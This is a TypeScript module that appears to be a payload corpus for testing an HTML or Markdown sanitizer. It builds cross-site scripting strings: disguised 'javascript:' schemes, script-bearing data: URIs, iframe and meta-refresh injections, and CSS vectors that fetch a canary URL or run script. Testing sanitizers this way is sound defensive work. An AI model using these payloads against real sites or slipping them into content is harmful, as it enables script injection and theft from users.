import type { Piece } from './piece';

/** What stands for a space between a tag and its attributes. */
export const OWN_SPACE = [' ', '/', '\t', '\n', '\f', '\r', ' / ', '\u00A0'];

/** Addresses that run something, and how they are disguised. */
export const ADDRESSES: Piece[] = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    '\u0001javascript:',
    'java\tscript:',
    'java\nscript:',
    'javascript\t:',
    'java&#115;cript:',
    'java&#x73;cript:',
    '&#0000106avascript:',
    'javascript&colon;',
    'javascript&#58;',
    'jav&Tab;ascript:',
    'java&NewLine;script:',
    'javascript://%0a',
    'javascript:/*--></title>*/',
    '%6aavascript:',
    'java\\script:',
    'java\u200Bscript:',
    'jаvascript:',
    'vbscript:',
    'livescript:',
    'feed:javascript:',
    'view-source:javascript:',
  ].map(
    (scheme): Piece =>
      (call) =>
        scheme + call,
  ),
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `data:text/html;base64,${btoa(`<script>${call}</script>`)}`,
  (call) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  (call) => `data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>${call}</script></x>`,
  (_call, canary) => canary,
  (_call, canary) => canary.replace('https:', ''),
  (_call, canary) => `intent:${canary.replace('https:', '')}#Intent;scheme=https;end`,
];

/** What such an address is put into. */
export const CARRIERS: ((address: string) => string)[] = [
  (address) => address,
  (address) => `[bấm](${address})`,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
];

/** Ways to another document, or to let one in. */
export const FRAMES: Piece[] = [
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe srcdoc="&lt;img src=x onerror=parent.${call}&gt;"></iframe>`,
  (call) => `<iframe src="data:text/html,<script>${call}</script>"></iframe>`,
  (_call, canary) => `<iframe src="${canary}" name="x"></iframe>`,
  (_call, canary) => `<object data="${canary}"></object>`,
  (_call, canary) => `<embed src="${canary}">`,
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  (_call, canary) => `<meta http-equiv="refresh" content="0;url=${canary}">`,
  () => `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  (_call, canary) => `<base href="${canary}/">`,
  (_call, canary) => `<link rel="stylesheet" href="${canary}">`,
  (_call, canary) => `<link rel="preload" as="script" href="${canary}">`,
  (_call, canary) => `<link rel="manifest" href="${canary}">`,
  (_call, canary) => `<portal src="${canary}"></portal>`,
  (call) => `<frameset onload="${call}"><frame></frameset>`,
  (_call, canary) => `<img src="${canary}">`,
  (_call, canary) => `<img srcset="${canary} 2x">`,
  (_call, canary) => `<video poster="${canary}"></video>`,
  (_call, canary) => `<audio src="${canary}" autoplay></audio>`,
  (_call, canary) => `<input type="image" src="${canary}">`,
];

/** Styles that fetch, or once ran something. */
export const CSS: Piece[] = [
  (_call, canary) => `<style>@import '${canary}';</style>`,
  (_call, canary) => `<style>*{background:url(${canary})}</style>`,
  (_call, canary) => `<p style="background:url(${canary})">x</p>`,
  (_call, canary) => `" style="background:url(${canary})`,
  (_call, canary) => `red;background:url(${canary})`,
  (_call, canary) => `}*{background:url(${canary})}`,
  (call) => `<p style="width:expression(${call})">x</p>`,
  (call) => `<p style="behavior:url(javascript:${call})">x</p>`,
  (_call, canary) => `<p style="-moz-binding:url(${canary}#x)">x</p>`,
  (call) => `</style><img src=x onerror=${call}>`,
  (call) => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${call}">x</b>`,
  (_call, canary) => `<svg><style>@font-face{font-family:x;src:url(${canary})}*{font-family:x}</style></svg>`,
];
